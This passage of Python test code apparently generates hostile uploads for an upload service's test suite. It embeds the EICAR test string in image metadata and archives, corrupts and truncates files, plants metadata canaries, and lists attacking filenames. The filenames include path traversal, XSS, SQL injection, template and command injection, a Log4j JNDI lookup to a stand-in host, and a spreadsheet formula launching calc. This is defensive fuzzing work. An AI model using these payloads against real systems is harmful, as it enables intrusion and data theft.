    exif[0x010E] = virus.decode()
    exif.get_ifd(0x8769)[0x9286] = b"ASCII\0\0\0" + virus
    for format_ in ("JPEG", "PNG", "WEBP"):
        out = io.BytesIO()
        Image.new("RGB", (400, 400), "white").save(out, format_, exif=exif)
        yield Hostile(name, f"in the EXIF of a {format_}", out.getvalue(), hidden)
    out = io.BytesIO()
    Image.new("RGB", (400, 400), "white").save(out, "JPEG", comment=virus)
    yield Hostile(name, "in a comment", out.getvalue(), hidden)
    for format_ in FORMATS:
        yield Hostile(name, f"after a {format_}", benign(format_) + virus, hidden)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("eicar.com", virus)
    yield Hostile(name, "in an archive", out.getvalue(), hidden)
    yield Hostile(
        name,
        "in a picture's text, packed",
        png(300, 300, more=chunk(b"zTXt", b"x\0\0" + zlib.compress(virus))),
        hidden,
    )


@family("cut off", 120)
def _cut(rng: random.Random, count: int) -> Iterator[tuple[str, bytes]]:
    for n in range(count):
        format_ = FORMATS[n % len(FORMATS)]
        data = benign(format_)
        at = rng.randrange(1, len(data))
        yield f"{format_} at {at}", data[:at]


@family("bits turned over", 360)
def _flipped(rng: random.Random, count: int) -> Iterator[tuple[str, bytes]]:
    for n in range(count):
        format_ = FORMATS[n % len(FORMATS)]
        yield f"{format_} {n}", mutated(rng, benign(format_))


@family("HEIC turned over", 150)
def _heic_flipped(rng: random.Random, count: int) -> Iterator[tuple[str, bytes]]:
    good = benign("HEIC", (256, 256))
    head = good.index(b"mdat")
    for n in range(count):
        data = bytearray(good)
        for _ in range(rng.choice((1, 2, 8))):  # in the boxes, where the counts and the places stand
            data[rng.randrange(4, head)] = rng.choice((0, 1, 0x7F, 0x80, 0xFF, rng.randrange(256)))
        yield f"boxes {n}", bytes(data)


def mutated(rng: random.Random, data: bytes) -> bytes:
    """As a file that a disk or an attacker spoiled: bits, bytes, numbers, pieces moved, doubled or lost."""
    found = bytearray(data)
    for _ in range(rng.choice((1, 1, 3, 10, 50))):
        at = rng.randrange(len(found))
        act = rng.randrange(6)
        if act == 0:
            found[at] ^= 1 << rng.randrange(8)
        elif act == 1:
            found[at] = rng.choice((0, 0x7F, 0x80, 0xFF))
        elif act == 2:
            found[at : at + 4] = struct.pack(
                rng.choice("<>") + "I", rng.choice((0, 1, 2**31 - 1, 2**31, 2**32 - 1))
            )
        elif act == 3:
            found[at:at] = found[at : at + rng.randrange(1, 200)]
        elif act == 4:
            del found[at : at + rng.randrange(1, 100)]
        else:
            other = rng.randrange(len(found))
            found[at : at + 20] = found[other : other + 20]
    return bytes(found)


@family("wrong lengths", 12)
def _lengths(rng: random.Random, _count: int) -> Iterator[tuple[str, bytes]]:
    yield "nothing", b""
    for byte in (b"\0", b"\xff", b"%", b"P"):
        yield f"one byte {byte!r}", byte
    yield "the limit and one byte", JPEG + bytes(LIMIT - 2)
    yield "the limit, of zeros", JPEG + bytes(LIMIT - 3)
    yield "the limit, of noise", PNG + rng.randbytes(LIMIT - 8)
    yield "a good picture filled up to the limit", benign("JPEG") + bytes(LIMIT - len(benign("JPEG")))
    yield "a PDF filled up to the limit", b"%PDF-1.7\n" + b"1 0 obj<<>>endobj\n" * ((LIMIT - 20) // 18)
    yield "a magic number alone", PNG
    yield "three bytes", JPEG


@family("what a file tells of its owner", 60)
def _metadata(_rng: random.Random, _count: int) -> Iterator[Hostile]:
    name = "what a file tells of its owner"
    exif = Image.Exif()
    exif[0x010E], exif[0x010F], exif[0x013B] = (CANARY.decode(),) * 3
    exif.get_ifd(0x8825).update(
        {1: "N", 2: (48.0, 51.0, 23.8), 3: "E", 4: (2.0, 21.0, 7.9), 29: "2026:01:01"}
    )
    exif.get_ifd(0x8769).update(
        {0x9286: b"ASCII\0\0\0" + CANARY, 0x927C: CANARY * 40, 0xA430: CANARY.decode()}
    )
    gps = exif.tobytes()
    xmp = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>" + CANARY + b"</x:xmpmeta>"
    image = Image.open(io.BytesIO(benign("PNG"))).convert("RGB")
    thumb = io.BytesIO()
    Image.new("RGB", (160, 120), "red").save(thumb, "JPEG", comment=CANARY)
    text = PngImagePlugin.PngInfo()
    text.add_text("Author", CANARY.decode())
    text.add_text("Raw profile type exif", CANARY.hex())
    text.add_itxt("XML:com.adobe.xmp", xmp.decode())

    def made(format_: str, **options: object) -> bytes:
        out = io.BytesIO()
        if format_ == "HEIC":
            pillow_heif.from_pillow(image).save(out, **options)
        else:
            image.save(out, format_, **options)
        return out.getvalue()

    def segment(mark: int, content: bytes) -> bytes:
        return bytes([0xFF, mark]) + struct.pack(">H", len(content) + 2) + content

    hidden = (CANARY, CANARY.hex().encode(), gps[20:60])
    for format_ in FORMATS[:-1]:
        for what, options in (
            ("EXIF with a position", {"exif": gps}),
            ("XMP", {"xmp": xmp}),
            ("both", {"exif": gps, "xmp": xmp}),
        ):
            yield Hostile(name, f"{format_}, {what}", made(format_, **options), hidden)
    yield Hostile(name, "PNG texts", made("PNG", pnginfo=text), hidden)
    jpeg_ = made("JPEG")
    for mark in (*range(0xE0, 0xF0), 0xFE):
        for head in (
            b"",
            b"Exif\0\0",
            b"ICC_PROFILE\0\1\1",
            b"Photoshop 3.0\0",
            b"http://ns.adobe.com/xap/1.0/\0",
        ):
            yield Hostile(
                name,
                f"JPEG segment {mark:02X} {head[:6]!r}",
                jpeg_[:2] + segment(mark, head + CANARY * 3) + jpeg_[2:],
                hidden,
            )
            if mark not in {0xE1, 0xE2, 0xED}:
                break
    yield Hostile(
        name, "a thumbnail of its own", made("JPEG", exif=_with_thumbnail(thumb.getvalue())), hidden
    )
    yield Hostile(name, "a film behind the picture", jpeg_ + b"\0\0\0\x18ftypmp42" + CANARY * 50, hidden)
    document = blank()
    document.docinfo["/Author"] = CANARY.decode()
    with document.open_metadata() as words:
        words["dc:title"] = CANARY.decode()
    yield Hostile(name, "PDF, author", saved(document), hidden)
    document = blank()
    picture = pikepdf.Stream(document, made("JPEG", exif=gps))
    picture.Type, picture.Subtype, picture.Filter = (
        pikepdf.Name.XObject,
        pikepdf.Name.Image,
        pikepdf.Name.DCTDecode,
    )
    picture.Width, picture.Height, picture.BitsPerComponent = image.width, image.height, 8
    picture.ColorSpace = pikepdf.Name.DeviceRGB
    document.pages[0].Resources = pikepdf.Dictionary(
        XObject=pikepdf.Dictionary(I=document.make_indirect(picture))
    )
    document.pages[0].Contents = document.make_stream(b"q 595 0 0 842 0 0 cm /I Do Q")
    yield Hostile(name, "PDF, a picture with a position", saved(document), hidden)


def _with_thumbnail(thumb: bytes) -> bytes:
    """An EXIF whose second list holds a picture."""
    head = b"II*\0\x08\0\0\0" + struct.pack("<H", 0) + struct.pack("<I", 14)
    place = 14 + 2 + 24 + 4
    tags = struct.pack("<HHII", 0x0201, 4, 1, place) + struct.pack("<HHII", 0x0202, 4, 1, len(thumb))
    return b"Exif\0\0" + head + struct.pack("<H", 2) + tags + struct.pack("<I", 0) + thumb


@family("names that attack", 200)
def _names(rng: random.Random, count: int) -> Iterator[tuple[str, bytes]]:
    """The variant is the name; the file itself is good. Given through the form: see `hostile_files.py`."""
    good = benign("JPEG", (400, 400))
    parts = (
        "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\x.jpg", "a/b.jpg", ".", "..", "", " ", "\t",
        "con", "nul.jpg", "aux", "a.jpg\0.php", "a\r\nSet-Cookie: x=1.jpg", "a\nX: y.jpg", "<script>alert(1)</script>.jpg",
        "\"><img src=x onerror=alert(1)>.jpg", "'; DROP TABLE evidence_upload;--.jpg", "{{7*7}}.jpg", "{% debug %}.jpg",
        "${jndi:ldap://canari.example/x}.jpg", "%00.jpg", "%2e%2e%2f.jpg", "a;b.jpg", "a|b.jpg", "`id`.jpg", "$(id).jpg",
        "a" * 300 + ".jpg", "é" * 200 + ".jpg", "e\u0301.jpg", "\u202egpj.exe", "\ufeff.jpg", "\u200b.jpg", "😀.jpg", "\ud7ff.jpg",
        ".htaccess", "web.config", "-rf.jpg", "a.jpg.exe", "a.php.jpg", "=cmd|' /C calc'!A0.jpg", "\\\\canari.example\\s\\a.jpg",
        "file:///etc/passwd", "https://canari.example/a.jpg", "a.jpg\"; filename=\"b.php", "&amp;.jpg", "a" * 100_000,
    )  # fmt: skip
    for n in range(count):
        name = (
            parts[n]
            if n < len(parts)
            else "".join(rng.choice(parts)[:40] for _ in range(rng.randrange(1, 4)))
        )
        yield name, good
